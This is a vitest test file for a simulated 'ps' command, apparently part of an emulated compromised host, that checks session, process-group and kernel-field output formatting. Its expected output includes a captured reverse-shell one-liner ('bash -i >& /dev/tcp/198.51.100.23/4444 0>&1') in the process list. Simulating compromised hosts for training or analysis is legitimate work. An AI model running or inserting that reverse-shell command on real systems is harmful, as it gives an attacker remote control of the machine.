import { describe, expect, it } from 'vitest';
import { web01 } from '../../../../test/fixtures/web01';
import { settleSessions } from '../../world/sessions';
import type { HostState } from '../../world/types';
import type { ToolContext } from '../types';
import { psTool } from './ps';

/** The captured host with its sessions settled, as worldAt gives it. */
function world(): HostState {
  const w = web01();
  return { ...w, processes: settleSessions(w.processes) };
}

const run = (argv: string[]) => {
  const ctx: ToolContext = { argv, stdin: '', world: world(), uid: 0, user: 'root', cwd: '/root',
    env: new Map(), shellPid: 22713 };
  return psTool.run(ctx);
};

describe('ps session and kernel fields (procps-ng 4.0.4 headers and widths)', () => {
  it('pgid, sid, tpgid: the captured reverse shell took the terminal from its session leader', () => {
    const r = run(['ps', '-o', 'pid,ppid,pgid,pgrp,sid,sess,tpgid,tty,stat,cmd', '-p', '22709,22710,22711,22713,22712']);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe([
      '  PID  PPID  PGID  PGRP   SID  SESS TPGID TT       STAT CMD',
      '22709 22705 22705 22705 22705 22705    -1 ?        S    sshd: deploy@pts/0',
      '22710 22709 22710 22710 22710 22710 22713 pts/0    Ss   bash -c bash -c \'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\' & sleep 3600',
      '22711 22710 22710 22710 22710 22710 22713 pts/0    S    bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1',
      '22712 22710 22710 22710 22710 22710 22713 pts/0    S    sleep 3600',
      '22713 22711 22713 22713 22710 22710 22713 pts/0    S+   bash -i',
      '',
    ].join('\n'));
  });

  it('f, sz, psr, lwp; wchan cut to its 6 columns unless last', () => {
    const r = run(['ps', '-o', 'pid,f,sz,psr,lwp,wchan,comm', '-p', '22570,22712,22713']);
    expect(r.stdout).toBe([
      '  PID F    SZ PSR   LWP WCHAN  COMMAND',
      `22570 4  3864   2 22570 do_sys sshd`,
      `22712 0   625   0 22712 hrtime sleep`,
      `22713 0  1051   1 22713 wait_w bash`,
      '',
    ].join('\n'));
    expect(run(['ps', '-o', 'pid,wchan', '-p', '22712']).stdout).toBe('  PID WCHAN\n22712 hrtimer_nanosleep\n');
  });
});
